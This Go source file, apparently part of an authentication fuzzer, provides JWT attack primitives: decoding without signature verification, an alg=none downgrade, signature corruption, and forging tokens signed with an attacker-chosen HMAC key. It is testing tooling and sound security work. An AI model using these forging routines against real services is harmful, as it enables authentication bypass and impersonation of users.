// Package jwtutil holds the token primitives used by the attack strategies:
// structural decoding without signature verification, algorithm downgrade,
// signature corruption and re-signing with an attacker-chosen key.
package jwtutil

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"strings"

	apperrors "authfuzz/pkg/errors"

	"github.com/golang-jwt/jwt/v5"
)

const corruptSignature = "corruptsig"

// Decoded is the tagged result of an unverified parse. When OK is false,
// Err says why and Header/Claims must not be used.
type Decoded struct {
	OK     bool
	Header map[string]interface{}
	Claims jwt.MapClaims
	Err    error
}

// Alg returns the declared algorithm, defaulting to HS256 when absent.
func (d Decoded) Alg() string {
	if alg, ok := d.Header["alg"].(string); ok && alg != "" {
		return alg
	}
	return "HS256"
}

var parser = jwt.NewParser(jwt.WithJSONNumber())

// Decode parses token structurally. The signature is never checked.
func Decode(token string) Decoded {
	tok, _, err := parser.ParseUnverified(token, jwt.MapClaims{})
	// An unknown or missing alg still leaves header and claims decoded.
	if err != nil && !errors.Is(err, jwt.ErrTokenUnverifiable) {
		return Decoded{Err: fmt.Errorf("%w: %v", apperrors.ErrMalformedToken, err)}
	}
	if tok == nil {
		return Decoded{Err: apperrors.ErrMalformedToken}
	}
	claims, ok := tok.Claims.(jwt.MapClaims)
	if !ok || claims == nil {
		return Decoded{Err: fmt.Errorf("%w: claims are not an object", apperrors.ErrMalformedToken)}
	}
	return Decoded{OK: true, Header: tok.Header, Claims: claims}
}

// NoneAlg rewrites the header to alg=none, keeps the original payload
// segment and drops the signature: "header.payload.". Header fields other
// than alg keep their encoded values. Input that is not a decodable
// three-part token is returned unchanged.
func NoneAlg(token string) string {
	parts := strings.Split(token, ".")
	if len(parts) != 3 {
		return token
	}

	raw, err := decodeSegment(parts[0])
	if err != nil {
		return token
	}
	header := map[string]json.RawMessage{}
	if err := json.Unmarshal(raw, &header); err != nil {
		return token
	}
	header["alg"] = json.RawMessage(`"none"`)

	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(header); err != nil {
		return token
	}
	out := bytes.TrimSuffix(buf.Bytes(), []byte("\n"))
	return base64.RawURLEncoding.EncodeToString(out) + "." + parts[1] + "."
}

// CorruptSignature replaces the signature with an invalid literal. Tokens
// without three parts get a trailing byte instead.
func CorruptSignature(token string) string {
	parts := strings.Split(token, ".")
	if len(parts) != 3 {
		return token + "A"
	}
	return parts[0] + "." + parts[1] + "." + corruptSignature
}

// Forge re-encodes claims under the given header's algorithm signed with key.
// Header fields other than alg are carried over. Algorithms that cannot sign
// with a shared secret fail with ErrUnsupportedAlg.
func Forge(header map[string]interface{}, claims jwt.MapClaims, key string) (string, error) {
	alg := Decoded{Header: header}.Alg()

	var (
		method  jwt.SigningMethod
		signKey interface{}
	)
	switch {
	case strings.EqualFold(alg, "none"):
		method, signKey = jwt.SigningMethodNone, jwt.UnsafeAllowNoneSignatureType
	case strings.HasPrefix(alg, "HS"):
		method, signKey = jwt.GetSigningMethod(alg), []byte(key)
	default:
		return "", fmt.Errorf("%w: %s", apperrors.ErrUnsupportedAlg, alg)
	}
	if method == nil {
		return "", fmt.Errorf("%w: %s", apperrors.ErrUnsupportedAlg, alg)
	}

	tok := jwt.NewWithClaims(method, claims)
	for k, v := range header {
		tok.Header[k] = v
	}
	tok.Header["alg"] = method.Alg()

	signed, err := tok.SignedString(signKey)
	if err != nil {
		return "", fmt.Errorf("sign %s token: %w", alg, err)
	}
	return signed, nil
}

// Prefix returns at most the first n bytes of token.
func Prefix(token string, n int) string {
	if len(token) <= n {
		return token
	}
	return token[:n]
}

func decodeSegment(seg string) ([]byte, error) {
	return base64.RawURLEncoding.DecodeString(strings.TrimRight(seg, "="))
}
